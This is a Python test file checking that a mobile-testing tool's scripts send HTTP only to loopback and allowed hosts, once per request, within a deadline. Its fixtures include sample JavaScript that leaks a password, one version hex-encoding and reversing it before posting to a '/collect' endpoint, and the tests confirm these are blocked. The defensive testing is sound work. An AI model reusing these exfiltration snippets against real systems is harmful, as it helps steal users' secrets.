"""Maestro scripts' HTTP: only to allowed hosts, each request once, under one deadline (ADR 0068)."""

from __future__ import annotations

import json
import socket
import threading
import time
from collections import Counter
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.support.cli import trailblaze
from trailblaze.errors import UsageError
from trailblaze.maestro import script_http
from trailblaze.maestro.script_http import allow_hosts
from trailblaze.maestro.scripts import ScriptError, Scripts, scripts_for

HEAD = "appId: dev.trailblaze.demo\n---\n"


class _Server:
    """A local server on every interface that counts what it was sent; `/slow` trickles its body."""

    def __init__(self) -> None:
        self.hits: Counter[str] = Counter()
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("Content-Length", 0)))
                self._answer()

            def do_GET(self) -> None:
                if self.path == "/slow":
                    self.send_response(200)
                    self.send_header("Content-Length", "1000")
                    self.end_headers()
                    for _ in range(1000):  # a byte every 0.1 s: no single read ever times out
                        try:
                            self.wfile.write(b"x")
                            self.wfile.flush()
                        except OSError:
                            return
                        time.sleep(0.1)
                elif self.path.startswith("/away"):
                    server.hits[f"GET {self.path}"] += 1
                    self.send_response(302)
                    self.send_header("Location", self.path[len("/away?to=") :])
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                else:
                    self._answer()

            def _answer(self) -> None:
                server.hits[f"{self.command} {self.path}"] += 1
                self.send_response(201 if self.command == "POST" else 200)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("0.0.0.0", 0), Handler)
        self.port = self.httpd.server_address[1]
        self.local = f"http://127.0.0.1:{self.port}"
        # the machine's own name: not loopback by name, so a host that must be allowed, yet reachable
        self.host = socket.gethostname().lower()
        self.named = f"http://{self.host}:{self.port}"


@pytest.fixture
def server() -> Iterator[_Server]:
    made = _Server()
    thread = threading.Thread(target=made.httpd.serve_forever, daemon=True)
    thread.start()
    yield made
    made.httpd.shutdown()
    made.httpd.server_close()


@pytest.fixture(autouse=True)
def _no_run_hosts() -> Iterator[None]:
    allow_hosts(())
    yield
    allow_hosts(())


def _values(**given: str) -> object:
    return given.get


def test_each_script_posts_once_though_an_earlier_script_made_requests(server: _Server) -> None:
    js = Scripts(seed=1)
    js.evaluate(f"http.get('{server.local}/first'); 1", "first.js", _values())
    js.evaluate(f"output.a = http.post('{server.local}/a', {{ body: 'x' }}).status", "a.js", _values())
    js.evaluate(f"output.b = http.post('{server.local}/b', {{ body: 'y' }}).status", "b.js", _values())
    assert js.evaluate("output.a + output.b", "f", _values()) == "402"
    assert server.hits == {"GET /first": 1, "POST /a": 1, "POST /b": 1}


def test_hosts_are_allowed_by_the_option_and_the_project_and_loopback_always(
    server: _Server, tmp_path: Path
) -> None:
    js = Scripts(seed=1)
    with pytest.raises(ScriptError) as refused:
        js.evaluate(f"http.post('{server.named}/leak?v=' + password)", "leak.js", _values(password="hunter2"))
    assert refused.value.message == (
        f"leak.js: http.post to '{server.host}' refused: scripts reach only loopback and the allowed hosts; "
        f"pass --script-host {server.host} (or list it in [tool.trailblaze] script_hosts of pyproject.toml) "
        "if the flow may send its data there"
    )
    assert "hunter2" not in refused.value.message and js.drain() == []  # not sent, and the URL not shown
    allow_hosts([server.host.upper()])
    assert js.evaluate(f"http.get('{server.named}/allowed').status", "f", _values()) == "200"
    allow_hosts(())
    # a redirect goes only to an allowed host
    away = f"{server.local}/away?to={server.named}/moved"
    with pytest.raises(ScriptError, match=f"^f: http.get redirected to '{server.host}' refused: "):
        js.evaluate(f"http.get('{away}')", "f", _values())
    assert server.hits["GET /moved"] == 0
    # the project's pyproject.toml allows hosts for the trails below it
    (tmp_path / "pyproject.toml").write_text(f'[tool.trailblaze]\nscript_hosts = ["{server.host}"]\n')
    (tmp_path / "trails").mkdir()
    project, _ = scripts_for(_Memory(), "android", tmp_path / "trails")
    assert project.evaluate(f"http.get('{away}').status", "f", _values()) == "200"
    assert server.hits == {"GET /allowed": 1, f"GET /away?to={server.named}/moved": 2, "GET /moved": 1}
    (tmp_path / "pyproject.toml").write_text('[tool.trailblaze]\nscript_hosts = "api.example.com"\n')
    with pytest.raises(UsageError, match=r"pyproject.toml: \[tool.trailblaze\] script_hosts must be a list"):
        scripts_for(_Memory(), "android", tmp_path / "trails")
    with pytest.raises(UsageError, match="script host 'a b' is not a host name"):
        allow_hosts(["a b"])


class _Memory:
    """A run's memory stands for its run: each one gets its own scripts."""


def test_a_trickling_answer_is_cut_off_at_the_request_deadline(
    server: _Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(script_http, "REQUEST_DEADLINE_S", 0.5)
    js = Scripts(seed=1)
    with pytest.raises(ScriptError) as raised:
        js.evaluate(f"http.get('{server.local}/slow')", "slow.js", _values())
    assert raised.value.message == (
        f"http.get {server.local}/slow: no complete answer within 0.5 s; "
        "the server is too slow or holds the connection open"
    )
    assert [line.split(" in ")[0] for line in js.drain()] == [f"GET {server.local}/slow → no response"]


def test_a_garbled_answer_fails_the_script_with_one_line() -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def answer() -> None:
            conn, _ = listener.accept()
            with conn:
                conn.recv(65536)
                conn.sendall(b"not http at all\r\n\r\n")

        threading.Thread(target=answer, daemon=True).start()
        url = f"http://127.0.0.1:{listener.getsockname()[1]}/x"
        with pytest.raises(ScriptError) as raised:
            Scripts(seed=1).evaluate(f"http.get('{url}')", "f", _values())
    assert raised.value.message.startswith(f"http.get {url}: ") and "\n" not in raised.value.message


@pytest.mark.slow
def test_a_flow_posts_once_per_script_and_cannot_send_a_secret_to_another_host(
    server: _Server, tmp_path: Path
) -> None:
    for name, url in (("a", f"{server.local}/a"), ("b", f"{server.local}/b")):
        (tmp_path / f"{name}.js").write_text(f"output.{name} = http.post('{url}', {{ body: 'n' }}).status\n")
    (tmp_path / "leak.js").write_text(
        "var hex = ''; for (var i = 0; i < password.length; i++) { hex += password.charCodeAt(i).toString(16); }\n"
        f"http.post('{server.named}/collect?d=' + hex + '&r=' + password.split('').reverse().join(''));\n"
    )
    (tmp_path / "flow.yaml").write_text(
        HEAD + "- runScript: a.js\n- runScript: b.js\n- assertTrue: ${output.a + output.b == 402}\n"
        "- runScript: leak.js\n"
    )
    ran = trailblaze(
        "replay", str(tmp_path / "flow.yaml"), "--device", "sim:android", "--secret", "password=hunter2",
        "--run-dir", "run", cwd=tmp_path,
    )  # fmt: skip
    assert ran.returncode == 1, ran.stdout + ran.stderr
    assert server.hits == {"POST /a": 1, "POST /b": 1}
    out = " ".join(ran.stdout.split())
    assert f"leak.js: http.post to '{server.host}' refused: " in out
    assert f"pass --script-host {server.host} (or list it in [tool.trailblaze] script_hosts" in out
    run_json = (tmp_path / "run" / "run.json").read_text()
    assert "2retnuh" not in run_json and "68756e74657232" not in run_json
    assert json.loads(run_json)["trails"][0]["status"] == "failed"
